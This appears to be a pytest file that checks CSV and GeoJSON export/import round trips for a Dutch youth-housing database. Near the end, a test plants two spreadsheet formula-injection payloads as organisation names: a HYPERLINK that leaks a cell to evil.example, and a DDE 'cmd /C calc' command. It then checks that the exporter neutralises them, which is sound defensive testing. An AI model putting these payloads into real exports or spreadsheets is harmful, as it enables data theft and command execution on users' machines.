"""Exports: canonical files, and import -> export -> import -> export gives identical files."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
import shapely
from import_builders import TODAY, seed_all
from sqlalchemy import delete, select
from sqlalchemy.orm import Session, sessionmaker

from fixtures.output import IMPORT_ORDER
from store.db import unit_of_work
from store.exporters import EXPORT_KINDS, export_areas_geojson, export_csv
from store.importers import import_file
from store.models import Base, HousingType, Organisation
from store.repository import area_geometries, count_by_kind, load_round

Factory = sessionmaker[Session]
KEEP = {"policy", "alembic_version", "audit_log"}  # audit_log is append-only (and empty here)
CSV_ORDER = ("organisations", "users", "types", "options", "youths", "contingents")


def _empty(factory: Factory) -> None:
    with unit_of_work(factory) as session:
        for table in reversed(Base.metadata.sorted_tables):
            if table.name not in KEEP:
                session.execute(delete(table))


def _export_all(factory: Factory, folder: Path) -> dict[str, str]:
    folder.mkdir()
    with factory() as session:
        for level in ("gemeente", "wijk", "buurt"):
            export_areas_geojson(session, level, folder / f"{level}.geojson")
        for kind in EXPORT_KINDS:
            export_csv(session, kind, folder / f"{kind}.csv")
    return {p.name: p.read_text(encoding="utf-8") for p in sorted(folder.iterdir())}


def _import_all(factory: Factory, folder: Path) -> None:
    with unit_of_work(factory) as session:
        for level in ("gemeente", "wijk", "buurt"):
            import_file(session, "areas", folder / f"{level}.geojson")
        for kind in CSV_ORDER:
            extra = {"today": TODAY} if kind == "youths" else {}
            import_file(session, kind, folder / f"{kind}.csv", **extra)


def test_round_trip_files_and_data_identical(session_factory: Factory, tmp_path: Path) -> None:
    with unit_of_work(session_factory) as session:
        seed_all(session, tmp_path)
    with session_factory() as session:
        counts = count_by_kind(session)
        before = load_round(session, date(2026, 3, 1))
        buurten = area_geometries(session, "buurt")
    first = _export_all(session_factory, tmp_path / "first")

    _empty(session_factory)
    with session_factory() as session:
        assert sum(count_by_kind(session).values()) == 0
    _import_all(session_factory, tmp_path / "first")
    second = _export_all(session_factory, tmp_path / "second")

    assert second == first
    with session_factory() as session:
        assert count_by_kind(session) == counts
        assert load_round(session, date(2026, 3, 1)) == before
        again = area_geometries(session, "buurt")
    assert {c: g.wkb for c, g in again.items()} == {c: g.wkb for c, g in buurten.items()}


def test_canonical_csv_form(session_factory: Factory, tmp_path: Path) -> None:
    with unit_of_work(session_factory) as session:
        seed_all(session, tmp_path)
    files = _export_all(session_factory, tmp_path / "out")
    options = files["options.csv"].splitlines()
    assert options[0].startswith("option_id;type;corporatie;x;y;")
    # Decimal point, ISO date, ja/nee, derived area codes filled in.
    assert options[1] == (
        "OPT-001;kma;CORP1;145000;405000;GM0796;WK079601;BU07960101;450.5;20;1;;2026-01-01;ja"
    )
    assert options[2].split(";")[12] == "2026-02-01"  # was 01-02-2026 in the input
    youths = files["youths.csv"].splitlines()
    assert youths[2].startswith("J-0002;2007-01-01;GM0796;900;0;friends;")
    assert youths[2].split(";")[13] == "J-0001"  # the mirrored companion
    assert not files["youths.csv"].startswith("\ufeff")
    assert '"urn:ogc:def:crs:EPSG::28992"' in files["buurt.geojson"]


def test_youths_without_no_go(session_factory: Factory, tmp_path: Path) -> None:
    with unit_of_work(session_factory) as session:
        seed_all(session, tmp_path)
        export_csv(session, "youths", tmp_path / "y.csv", include_no_go=False)
    row = (tmp_path / "y.csv").read_text(encoding="utf-8").splitlines()[1].split(";")
    assert row[0] == "J-0001" and row[8] == "" and row[9] == ""


def test_wgs84_export_reimports_within_a_millimetre(
    session_factory: Factory, tmp_path: Path
) -> None:
    with unit_of_work(session_factory) as session:
        seed_all(session, tmp_path)
        export_areas_geojson(session, "gemeente", tmp_path / "g.geojson", crs="EPSG:4326")
        before = area_geometries(session, "gemeente")
    text = (tmp_path / "g.geojson").read_text(encoding="utf-8")
    assert '"crs"' not in text  # RFC 7946: WGS84 without a crs member
    _empty(session_factory)
    with unit_of_work(session_factory) as session:
        import_file(session, "areas", tmp_path / "g.geojson")
        after = area_geometries(session, "gemeente")
    assert after.keys() == before.keys()
    for code, geom in before.items():
        assert shapely.hausdorff_distance(geom, after[code]) < 0.001


def test_unknown_export_kind(session_factory: Factory, tmp_path: Path) -> None:
    with session_factory() as session, pytest.raises(ValueError, match="onbekende soort"):
        export_csv(session, "castles", tmp_path / "x.csv")


DEMO = Path(__file__).resolve().parents[2] / "fixtures" / "demo"
DEMO_ORDER = IMPORT_ORDER


@pytest.mark.skipif(not (DEMO / "youths.csv").exists(), reason="no committed demo region")
def test_demo_region_round_trip(session_factory: Factory, tmp_path: Path) -> None:
    with unit_of_work(session_factory) as session:
        for kind, name in DEMO_ORDER:
            extra = {"today": TODAY} if kind == "youths" else {}
            import_file(session, kind, DEMO / name, **extra)
    first = _export_all(session_factory, tmp_path / "first")
    _empty(session_factory)
    _import_all(session_factory, tmp_path / "first")
    assert _export_all(session_factory, tmp_path / "second") == first


FORMULAS = {
    "CORP1": '=HYPERLINK("http://evil.example/?"&A1;"klik")',
    "CORP2": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_formula_text_is_guarded_and_round_trips(session_factory: Factory, tmp_path: Path) -> None:
    """Issue 13 item 6: text that a spreadsheet runs is written with a leading quote; the
    importers take it off again, so the backup still round-trips byte for byte."""
    with unit_of_work(session_factory) as session:
        seed_all(session, tmp_path)
        for code, name in FORMULAS.items():
            org = session.scalars(select(Organisation).where(Organisation.code == code)).one()
            org.name = name
        # text that already starts with a quote before a formula character, and a tab
        youth_type = session.scalars(select(HousingType).order_by(HousingType.code)).first()
        assert youth_type is not None
        youth_type.description = "'-1+2"
        last = session.scalars(select(HousingType).order_by(HousingType.code.desc())).first()
        assert last is not None and last is not youth_type
        last.description = "\t=1+1"
    first = _export_all(session_factory, tmp_path / "first")
    rows = list(csv.reader(io.StringIO(first["organisations.csv"]), delimiter=";"))
    names = {r[0]: r[1] for r in rows[1:]}
    for code, name in FORMULAS.items():
        assert names[code] == "'" + name
    types = list(csv.reader(io.StringIO(first["types.csv"]), delimiter=";"))
    descriptions = {r[-1] for r in types[1:]}
    assert "''-1+2" in descriptions and "'\t=1+1" in descriptions
    # numbers that start with + or - are not text and stay as they are
    assert all(not cell.startswith("'") for r in types[1:] for cell in r[:-1])

    _empty(session_factory)
    _import_all(session_factory, tmp_path / "first")
    assert _export_all(session_factory, tmp_path / "second") == first
    with session_factory() as session:
        stored = {c: n for c, n in session.execute(select(Organisation.code, Organisation.name))}
        assert {code: stored[code] for code in FORMULAS} == FORMULAS
        descriptions = set(session.scalars(select(HousingType.description)))
        assert {"'-1+2", "\t=1+1"} <= descriptions
